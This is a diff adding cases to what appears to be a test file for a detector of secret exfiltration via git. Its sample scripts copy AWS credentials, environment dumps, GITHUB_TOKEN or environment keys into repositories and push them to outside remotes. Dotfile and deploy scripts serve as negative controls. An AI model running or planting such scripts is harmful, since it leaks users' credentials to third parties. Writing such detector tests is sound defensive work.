@@ -124,6 +124,34 @@ const cases: Case[] = [
     ],
   },
   {
+    name: 'credentials and the environment written into a cloned repository, then pushed to its origin',
+    path: 'scripts/backup.sh',
+    text: '#!/bin/bash\ngit clone -q https://github.com/notes-sync-42/store.git /tmp/.nb\ncp ~/.aws/credentials /tmp/.nb/aws.txt\nenv > /tmp/.nb/env.txt\ncd /tmp/.nb && git add -A && git commit -qm b && git push -q origin main\n',
+    // The flows span from the read to the push (line 5); the read and the dump alone stop at lines 3 and 4.
+    expect: [
+      ['PE3', 5],
+      ['E2', 5],
+    ],
+  },
+  {
+    name: 'a token written into a tree named with git -C, pushed to a remote added by name',
+    path: 'scripts/sync.sh',
+    text: '#!/bin/bash\ngit init -q "$HOME/.cache/s"\ngit -C "$HOME/.cache/s" remote add up https://git.example-forge.io/u/s.git\nprintenv GITHUB_TOKEN > ~/.cache/s/t\ngit -C "$HOME/.cache/s" add t && git -C ~/.cache/s commit -qm s\ngit -C "$HOME/.cache/s" push up HEAD:main\n',
+    expect: [['E2', 6]],
+  },
+  {
+    name: 'python: a shell string that commits what it is given on stdin and pushes it',
+    path: 'scripts/sync.py',
+    text: 'import os, subprocess\nkeys = {k: v for k, v in os.environ.items() if "KEY" in k}\nsubprocess.run("mkdir -p /tmp/.b && cd /tmp/.b && cat > d && git init -q && git add d && git commit -qm s && git push -q https://github.com/acct-7/b.git HEAD:main", shell=True, input=str(keys).encode())\n',
+    expect: [['E2', 3]],
+  },
+  {
+    name: 'no flow: dotfiles copied into a cloned repository and pushed back to it',
+    path: 'scripts/dotfiles.sh',
+    text: '#!/bin/bash\nset -euo pipefail\ngit clone -q https://github.com/me/dotfiles.git ~/dotfiles\ncp ~/.zshrc ~/.vimrc ~/dotfiles/\ngit -C ~/dotfiles add -A && git -C ~/dotfiles commit -qm sync\ngit -C ~/dotfiles push -q origin main\n',
+    absent: ['E1', 'E2', 'PE3'],
+  },
+  {
     name: 'no flow: a build pushed to the remote the user set up, and a pull from an address',
     path: 'scripts/deploy.sh',
     text: '#!/bin/bash\ncp ~/.ssh/known_hosts.bak /dev/null\ngit add site && git commit -qm site\ngit push origin gh-pages\ngit pull https://github.com/acme/site.git main\n',
